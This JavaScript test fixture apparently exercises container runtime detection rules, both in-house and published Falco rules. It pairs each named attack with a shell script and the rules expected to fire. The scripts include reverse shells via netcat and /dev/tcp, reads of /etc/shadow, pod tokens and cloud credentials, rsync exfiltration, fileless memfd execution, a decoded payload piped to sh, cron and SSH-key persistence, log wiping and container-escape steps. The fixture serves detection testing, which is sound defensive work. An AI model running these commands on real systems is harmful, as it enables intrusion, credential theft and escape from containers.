// What somebody does in a container, and which rules must see it: ours, and those published for
// Falco where they are at hand. Every attack is harmless and stays in the container's own network.

/** An address for documentation, on the loopback of the container's own network. */
export const outside = '203.0.113.5';

/**
 * @typedef {{
 *   script: string,
 *   ours?: string[],
 *   inPods?: string[],
 *   published?: string[],
 *   terminal?: boolean,
 *   privileged?: boolean,
 * }} Attack `inPods` are rules of ours that speak of pods that serve
 */

/** Somebody at the other end, who is gone at once. */
const otherEnd = (port) =>
  `(echo id; echo exit) | nc -l -p ${port} >/dev/null & sleep 0.3`;

const perl = (code) => `perl -e '${code}'`;

/** By what is done. @type {Record<string, Attack>} */
export const attacks = {
  'a shell with a terminal': {
    script: 'true',
    terminal: true,
    ours: ['Terminal Shell in Container'],
    published: ['Terminal shell in container'],
  },
  'the password file is read': {
    script: 'cat /etc/shadow >/dev/null',
    ours: ['Password file read'],
    published: ['Read sensitive file untrusted'],
  },
  'a file below /etc is written': {
    script: 'echo "path = /" >/etc/rsyncd.conf',
    inPods: ['Write Below Etc'],
    published: ['Write below etc'],
  },
  'a link is laid over the password file': {
    script: 'ln -s /etc/shadow /tmp/list',
    ours: ['Create Symlink Over Sensitive Files'],
    published: ['Create Symlink Over Sensitive Files'],
  },
  'private keys are searched': {
    script: 'find /home /root -name id_rsa',
    ours: ['Search Private Keys or Passwords'],
    published: ['Search Private Keys or Passwords'],
  },
  'a package is installed': {
    script: 'apt-get install -y nmap || true',
    inPods: ['Package manager run in a container'],
    published: ['Launch Package Management Process in Container'],
  },
  'a program that the image did not bring is run': {
    script: 'cp /bin/true /tmp/helper && /tmp/helper',
    inPods: ['Program that is not in the image'],
    published: ['Drop and execute new binary in container'],
  },
  'a program is put beside the others': {
    script: 'cp /bin/true /usr/bin/helper',
    inPods: ['Program file written'],
    published: ['Write below binary dir'],
  },
  'a mining pool is called': {
    script: `nc -l -p 3333 >/dev/null & sleep 0.3; echo | nc -w 1 ${outside} 3333`,
    ours: ['Outbound connection to common miner pool ports'],
  },
  'a miner is told where to work': {
    script: '/bin/echo -o stratum+tcp://pool.example:3333 >/dev/null',
    ours: ['Crypto miner using the Stratum protocol'],
    published: ['Detect crypto miners using the Stratum protocol'],
  },
  'netcat hands a shell to the other end': {
    script: `${otherEnd(4444)}; nc -e /bin/sh ${outside} 4444`,
    ours: ['Netcat told to start a program', 'Reverse shell'],
    published: [
      'Netcat Remote Code Execution in Container',
      'Redirect STDOUT/STDIN to Network Connection in Container',
    ],
  },
  'a shell is tied to a connection': {
    script: `${otherEnd(4445)}; bash -c "bash -i >/dev/tcp/${outside}/4445 0>&1 2>/dev/null"`,
    ours: ['Reverse shell', 'Standard streams put on a network connection'],
    published: ['Redirect STDOUT/STDIN to Network Connection in Container'],
  },
  'files are sent away': {
    script: `rsync /etc/hostname rsync://${outside}/in || true`,
    inPods: ['Launch Remote File Copy Tools in Container'],
    published: ['Launch Remote File Copy Tools in Container'],
  },
  'a program is run from memory': {
    // 319 is memfd_create; perl would close what it opens when it executes.
    script: perl([
      '$^F = 1000; my $fd = syscall(319, my $name = "worker", 0); open(my $to, ">&=", $fd);',
      'open(my $from, "<", "/bin/true"); local $/; syswrite($to, <$from>);',
      'exec {"/proc/self/fd/$fd"} "worker";',
    ].join(' ')),
    ours: ['Program run from memory'],
    published: ['Fileless execution via memfd_create'],
  },
  'a hidden payload is run': {
    script: 'sh -c "echo aWQK | base64 -d | sh" >/dev/null',
    ours: ['Payload decoded and run'],
  },
  'a program is made to run as its owner': {
    script: 'cp /bin/true /tmp/owner && chmod 4755 /tmp/owner',
    ours: ['Set-user-id bit set'],
    published: ['Set Setuid or Setgid bit'],
  },
  'the shell history is removed': {
    script: 'echo ls >/root/.bash_history; rm /root/.bash_history',
    ours: ['Shell history removed'],
    published: ['Delete or rename shell history'],
  },
  'a log is emptied': {
    script: 'echo >/var/log/dpkg.log',
    published: ['Clear Log Activities'],
  },
  'a file is hidden below /dev': {
    script: 'echo x >/dev/.hidden; rm /dev/.hidden',
    ours: ['File hidden below dev'],
    published: ['Create files below dev'],
  },
  'the pod token is shown': {
    script: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null || true',
    inPods: ['Pod token read with a general tool'],
  },
  'a cloud credential is shown': {
    script: 'mkdir -p /root/.aws; echo >/root/.aws/credentials; cat /root/.aws/credentials',
    ours: ['Cloud credential read with a general tool'],
  },
  'another process is read': {
    script: 'cat /proc/1/environ >/dev/null',
    ours: ['Environment of another process read'],
    published: ['Read environment variable from /proc files'],
  },
  'a job is added to the clock': {
    script: 'mkdir -p /etc/cron.d; echo "* * * * * root id" >/etc/cron.d/job',
    ours: ['Scheduled job added'],
    published: ['Schedule Cron Jobs'],
  },
  'a key is added': {
    script: 'mkdir -p /root/.ssh; echo ssh-ed25519 >>/root/.ssh/authorized_keys',
    ours: ['SSH key added'],
    published: ['Adding ssh keys to authorized_keys'],
  },
  'a namespace is entered': {
    script: 'nsenter -t 1 -n true',
    privileged: true,
    ours: ['Namespace entered from a container'],
    published: ['Change thread namespace'],
  },
  'a file system is mounted': {
    script: 'mount -t tmpfs none /mnt; echo >/mnt/release_agent; umount /mnt',
    privileged: true,
    ours: ['Release agent written in a container'],
    inPods: ['File system mounted in a container'],
    published: ['Mount Launched in Privileged Container'],
  },
  'the node becomes the root folder': {
    script: 'mkdir -p /mnt/node; mount --bind / /mnt/node; chroot /mnt/node /bin/true',
    privileged: true,
    ours: ['Container took the node\'s root folder'],
  },
};
